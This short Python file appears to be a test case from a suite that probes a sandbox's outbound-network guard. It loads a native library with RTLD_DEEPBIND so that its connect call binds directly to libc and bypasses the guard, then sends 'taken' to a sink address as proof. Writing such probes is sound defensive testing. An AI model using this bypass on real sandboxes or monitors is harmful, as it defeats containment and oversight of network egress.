# class: symbols
# rule: outbound_connectivity
# also: native_code
# success: a library that is loaded so that it binds to libc before the guard connects
# proof: sink
# needs: gcc
import ctypes
import os
import socket

from attack import SINK, address, attempt


@attempt
def connect():
    # A library of the function's own package, which names connect as any library does.
    library = ctypes.CDLL(os.environ["ATTACK_PLAIN"], mode=os.RTLD_DEEPBIND | os.RTLD_NOW)
    out, where = socket.socket(), address(*SINK)
    if library.plain_connect(out.fileno(), where, len(where)) != 0:
        return False
    return out.send(b"taken") == 5
